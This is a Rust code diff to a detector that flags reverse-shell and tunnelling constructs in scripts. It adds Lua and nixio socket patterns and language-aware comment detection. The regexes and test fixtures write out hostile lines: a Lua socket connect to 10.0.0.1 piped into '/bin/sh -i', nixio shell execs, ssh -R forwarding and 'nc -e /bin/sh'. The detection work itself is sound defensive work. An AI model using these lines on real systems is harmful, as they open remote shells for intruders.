@@ -46,11 +46,11 @@ const CONSTRUCTS: &[(&str, &str)] = &[
     ("socat", r"\bsocat\s+\S"),
     (
         "shell spawned",
-        r#"(?i)\b(?:exec[lv]?[ep]*|system|popen|spawn|call|run|proc_open|shell_exec|passthru)\b[\s(\["',]{1,6}(?:/(?:usr/)?bin/)?(?:ba|da|z|k)?sh\b"#,
+        r#"(?i)\b(?:exec[lv]?[ep]*|execute|system|popen|spawn|call|run|proc_open|shell_exec|passthru)\b[\s(\["',]{1,6}(?:/(?:usr/)?bin/)?(?:ba|da|z|k)?sh\b"#,
     ),
     (
         "socket",
-        r"\bsocket\.socket\b|\bIO::Socket\b|\bfsockopen\s*\(|\bTCPSocket\b|\buse\s+Socket\b|\bnet\.(?:connect|createServer)\b|require\W+socket\b",
+        r"\bsocket\.socket\b|\bIO::Socket\b|\bfsockopen\s*\(|\bTCPSocket\b|\buse\s+Socket\b|\bnet\.(?:connect|createServer)\b|require\W+(?:posix\.sys\.)?socket\b|\bnixio\.(?:socket|bind|connect)\b",
     ),
     ("ssh -R", r"\b(?:ssh|autossh|dbclient|plink)(?:\s[^\n|;&]*)?\s-\w*R[\s\d:*]|\bRemoteForward\b"),
     ("ssh -w", r"\bssh(?:\s[^\n|;&]*)?\s-\w*w\s*(?:\d|any)|\bTunnel\s+(?:yes|point-to-point|ethernet)\b"),
@@ -83,11 +83,12 @@ static RUN: LazyLock<Option<Regex>> = LazyLock::new(|| {
 /// Programs that a script names, in the order of their first mention; at most [`MOST_RUN`].
 pub fn runs(bytes: &[u8]) -> Vec<String> {
     let text = bytes.get(..LIMIT).unwrap_or(bytes);
+    let marks = comment_marks(text);
     let mut found: Vec<String> = Vec::new();
     for hit in RUN.iter().flat_map(|r| r.captures_iter(text)).filter_map(|c| c.get(1)) {
         let path = String::from_utf8_lossy(hit.as_bytes());
         let elsewhere = ["/dev/", "/proc/", "/sys/"].iter().any(|p| path.starts_with(p));
-        if elsewhere || found.iter().any(|f| *f == path) || in_comment(text, hit.start()) {
+        if elsewhere || found.iter().any(|f| *f == path) || in_comment(text, hit.start(), marks) {
             continue;
         }
         found.push(path.into_owned());
@@ -115,19 +116,33 @@ fn language(interpreter: &str) -> String {
 /// Names of the telling constructs that stand outside comment lines, sorted.
 pub fn constructs(bytes: &[u8]) -> Vec<String> {
     let text = bytes.get(..LIMIT).unwrap_or(bytes);
+    let marks = comment_marks(text);
     let mut found: Vec<String> = PATTERNS
         .iter()
-        .filter(|(_, pattern)| pattern.find_iter(text).any(|hit| !in_comment(text, hit.start())))
+        .filter(|(_, pattern)| pattern.find_iter(text).any(|hit| !in_comment(text, hit.start(), marks)))
         .map(|(name, _)| (*name).to_owned())
         .collect();
     found.sort();
     found
 }
 
-fn in_comment(text: &[u8], at: usize) -> bool {
+/// What a comment line begins with, in the language that the first line names.
+fn comment_marks(text: &[u8]) -> &'static [&'static [u8]] {
+    let line = text.strip_prefix(b"#!").and_then(|rest| rest.get(..256).unwrap_or(rest).split(|b| *b == b'\n').next());
+    let language = line.map(|l| language(String::from_utf8_lossy(l).trim())).unwrap_or_default();
+    match language.as_str() {
+        "lua" | "luajit" => &[b"--"],
+        "node" | "nodejs" | "qjs" => &[b"//"],
+        "php" | "php-cli" => &[b"#", b"//"],
+        _ => &[b"#"],
+    }
+}
+
+fn in_comment(text: &[u8], at: usize, marks: &[&[u8]]) -> bool {
     let before = text.get(..at).unwrap_or_default();
     let start = memchr::memrchr(b'\n', before).map_or(0, |n| n.saturating_add(1));
-    before.get(start..).unwrap_or_default().trim_ascii_start().starts_with(b"#")
+    let line = before.get(start..).unwrap_or_default().trim_ascii_start();
+    marks.iter().any(|mark| line.starts_with(mark))
 }
 
 #[cfg(test)]
@@ -185,9 +200,28 @@ mod tests {
             ),
             ("subprocess.call([\"/bin/bash\", \"-i\"])", vec!["shell spawned"]),
             ("  # nc -e /bin/sh, mkfifo", vec![]),
+            (
+                "t=require('socket').tcp() t:connect('10.0.0.1',99) os.execute('/bin/sh -i <&3 >&3')",
+                vec!["bash -i", "shell spawned", "socket"],
+            ),
+            ("local s = nixio.socket(\"inet\", \"stream\") nixio.exec(\"/bin/ash\")", vec!["socket"]),
+            ("local s = nixio.bind(nil, 99) nixio.exec(\"/bin/sh\")", vec!["shell spawned", "socket"]),
+            ("local sys = require 'luci.sys' os.execute('sync')", vec![]),
             ("echo synchronous; scp -R x y; hash -i; ssh-agent -D", vec![]),
         ] {
             assert_eq!(constructs(format!("true\n{line}\n").as_bytes()), expected, "{line}");
+        }
+    }
+
+    #[test]
+    fn comments_are_those_of_the_language() {
+        for (text, expected) in [
+            ("#!/usr/bin/lua\n-- require('socket') os.execute('/bin/sh')\n", vec![]),
+            ("#!/usr/bin/lua\n#t = 1 -- length\nlocal s = require('socket')\n", vec!["socket"]),
+            ("#!/usr/bin/env node\n// net.connect(1)\nnet.createServer()\n", vec!["socket"]),
+            ("#!/bin/sh\nssh -N \\\n  -R 22:localhost:22 h\n-- nc -e /bin/sh\n", vec!["nc -e"]),
+        ] {
+            assert_eq!(constructs(text.as_bytes()), expected, "{text}");
         }
     }
 }
